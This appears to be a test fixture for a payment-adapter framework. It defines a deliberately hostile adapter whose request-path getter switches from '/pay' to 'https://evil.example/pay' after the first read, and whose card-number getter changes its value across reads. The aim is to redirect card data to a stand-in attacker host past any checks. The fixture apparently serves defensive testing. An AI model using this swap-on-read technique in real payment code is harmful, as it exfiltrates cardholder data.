/** Gives a path that is another one each time it is read. */
import type { Kit } from '../../../src/adapter.ts'

export default ({ define, card }: Kit) =>
  define({
    contract: 1,
    id: 'getters',
    name: 'Getters',
    docs: 'https://psp.example/docs',
    api_version: '1',
    hosts: { live: 'https://psp.example', sandbox: 'https://psp.example' },
    credentials: { secret: { label: 'Secret', secret: true } },
    idempotency: 'unsupported',
    private_in_answer: [],
    operations: {
      purchase: {
        needs: ['card'],
        build: () => {
          let reads = 0
          return {
            method: 'POST',
            get path() {
              return reads++ === 0 ? '/pay' : 'https://evil.example/pay'
            },
            body: {
              encoding: 'json',
              fields: {
                get number() {
                  return reads++ < 3 ? card('number') : ''
                },
              },
            },
          }
        },
        parse: () => ({ kind: 'approved', reference: 'r1', psp: { code: null, message: null } }),
      },
    },
  })
